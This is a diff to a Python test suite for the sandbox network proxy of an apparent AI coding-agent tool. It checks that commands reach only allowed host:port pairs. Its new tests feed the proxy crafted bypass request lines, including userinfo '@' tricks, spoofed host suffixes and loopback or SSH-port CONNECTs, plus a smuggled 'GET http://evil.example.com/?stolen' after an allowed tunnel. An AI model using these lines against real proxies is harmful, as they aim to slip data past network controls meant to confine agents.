@@ -13,6 +13,7 @@ from bridle.config.settings import SandboxSettings
 from bridle.core.inbox import TurnOptions
 from bridle.core.parts import Call
 from bridle.core.permission import Access
+from bridle.process.doorway import Doorway
 from bridle.tackroom import UsersOwn
 from bridle.tools.tool import Invocation
 
@@ -77,7 +78,7 @@ def host(name):
 @pytest.mark.parametrize("way", [FETCH, TUNNEL], ids=["plain", "tunnel"])
 def test_a_command_reaches_the_hosts_it_was_given(shut_in, port, way):
     name = "pypi.example.com"
-    output = run(shut_in, way.format(name, port), host(name), outside=[name])
+    output = run(shut_in, way.format(name, port), host(f"{name}:{port}"), outside=[f"{name}:{port}"])
     assert (output.text, output.failed) == (f"/x for {name}\n", False)
 
 
@@ -86,9 +87,8 @@ def test_it_reaches_no_other_and_is_told_how_to_ask(shut_in, port, way):
     command = way.format("evil.example.com", port)
     output = run(shut_in, command, host("pypi.example.com"), outside=["pypi.example.com"])
     assert output.failed
-    assert (
-        '[the sandbox lets no command reach these hosts; to ask a person: outside: ["evil.example.com"]]' in output.text
-    )
+    told = f'the sandbox lets no command reach these hosts; to ask a person: outside: ["evil.example.com:{port}"]'
+    assert told in output.text
     # Around the proxy there is no network at all.
     direct = f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\""
     assert "Connection refused" in run(shut_in, direct, host("pypi.example.com"), outside=["pypi.example.com"]).text
@@ -96,14 +96,16 @@ def test_it_reaches_no_other_and_is_told_how_to_ask(shut_in, port, way):
 
 def test_hosts_that_were_allowed_for_good_need_no_word(shut_in, port):
     name = "pypi.example.com"
-    assert run(shut_in, FETCH.format(name, port), host(name), hosts=True).text == f"/x for {name}\n"
+    assert run(shut_in, FETCH.format(name, port), host(f"{name}:{port}"), hosts=True).text == f"/x for {name}\n"
     without = run(shut_in, FETCH.format(name, port), host(name))
     assert without.failed and 'such as outside: ["pypi.org"]' in without.text
 
 
 def test_a_public_name_that_leads_into_a_private_network_is_no_way_there(shut_in, port):
     name = "rebound.example.com"
-    assert run(shut_in, FETCH.format(name, port), host(name), outside=[name], private=False).failed
+    asked = f"{name}:{port}"
+    assert run(shut_in, FETCH.format(name, port), host(asked), outside=[asked], private=False).failed
+    assert not run(shut_in, FETCH.format(name, port), host(asked), outside=[asked]).failed
 
 
 def test_a_host_is_asked_about_by_its_name_and_a_folder_stays_a_folder(shut_in):
@@ -121,13 +123,14 @@ def test_a_host_is_asked_about_by_its_name_and_a_folder_stays_a_folder(shut_in):
 def test_many_connections_and_much_data_pass_and_nothing_is_left(shut_in, port):
     name = "pypi.example.com"
     many = " & ".join([FETCH.format(name, port)] * 12) + " & wait"
-    assert run(shut_in, many, host(name), outside=[name]).text == f"/x for {name}\n" * 12
+    asked = f"{name}:{port}"
+    assert run(shut_in, many, host(asked), outside=[asked]).text == f"/x for {name}\n" * 12
 
 
 def test_an_always_to_a_host_holds_for_the_next_command(shut_in, port, tmp_path):
     name = "pypi.example.com"
     fetch = {"command": FETCH.format(name, port)}
-    model = ScriptedModel([call("bash", **fetch, outside=[name]), "One.", call("bash", **fetch), "Two."])
+    model = ScriptedModel([call("bash", **fetch, outside=[f"{name}:{port}"]), "One.", call("bash", **fetch), "Two."])
     settings = Settings(
         sandbox=SandboxSettings(mode="required"), permission={"private_network": "allow", "bash": "allow"}
     )
@@ -151,5 +154,68 @@ def test_an_always_to_a_host_holds_for_the_next_command(shut_in, port, tmp_path)
             parts = (await runtime.load(session)).parts.values()
             return [ask.text for ask in asked], [part.state.output for part in parts if isinstance(part, Call)]
 
-    assert asyncio.run(work()) == ([f"Allow host: {name}?"], [f"/x for {name}\n"] * 2)
+    assert asyncio.run(work()) == ([f"Allow host: {name}:{port}?"], [f"/x for {name}\n"] * 2)
     assert name in (tmp_path / "approvals.json").read_text()
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "CONNECT evil.example.com:443@pypi.example.com:443 HTTP/1.1",
+        "GET http://pypi.example.com@evil.example.com/ HTTP/1.1",
+        "GET https://pypi.example.com/ HTTP/1.1",
+        "GET /relative HTTP/1.1",
+        "CONNECT pypi.example.com:22 HTTP/1.1",
+        "CONNECT 127.0.0.1:443 HTTP/1.1",
+        "CONNECT PYPI.example.com.evil.example.com:443 HTTP/1.1",
+        "nonsense",
+    ],
+)
+def test_no_way_of_asking_gets_around_the_list(line):
+    async def work():
+        doorway = Doorway(lambda host: host == "pypi.example.com", lambda host: True, {})
+        listener = socket.create_server(("127.0.0.1", 0))
+        doorway._server = server = await asyncio.start_server(doorway._come, sock=listener)
+        reader, writer = await asyncio.open_connection(*listener.getsockname())
+        writer.write(f"{line}\r\nHost: pypi.example.com\r\n\r\n".encode())
+        answer = await asyncio.wait_for(reader.read(), 10)
+        writer.close()
+        server.close()
+        await doorway.close()
+        return answer
+
+    assert asyncio.run(work()) in (b"", b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
+
+
+def test_behind_a_proxy_nothing_but_what_was_allowed_is_passed_on():
+    """The proxy refuses the tunnel and keeps the connection; what comes after that must not reach it."""
+    heard = []
+
+    async def proxy(reader, writer):
+        while line := await reader.readline():
+            heard.append(line)
+            if line == b"\r\n":
+                writer.write(b"HTTP/1.1 502 Bad gateway\r\nContent-Length: 0\r\n\r\n")
+                await writer.drain()
+
+    async def work():
+        upstream = await asyncio.start_server(proxy, "127.0.0.1", 0)
+        port = upstream.sockets[0].getsockname()[1]
+        environment = {"https_proxy": f"http://me:secret@127.0.0.1:{port}"}
+        doorway = Doorway(lambda host: host == "pypi.example.com", lambda host: True, environment)
+        listener = socket.create_server(("127.0.0.1", 0))
+        doorway._server = server = await asyncio.start_server(doorway._come, sock=listener)
+        reader, writer = await asyncio.open_connection(*listener.getsockname())
+        writer.write(
+            b"CONNECT pypi.example.com:443 HTTP/1.1\r\n\r\nGET http://evil.example.com/?stolen HTTP/1.1\r\n\r\n"
+        )
+        await asyncio.wait_for(reader.read(), 10)
+        writer.close()
+        server.close()
+        upstream.close()
+        await doorway.close()
+
+    asyncio.run(work())
+    whole = b"".join(heard)
+    assert b"CONNECT pypi.example.com:443" in whole and b"Basic bWU6c2VjcmV0" in whole
+    assert b"evil" not in whole
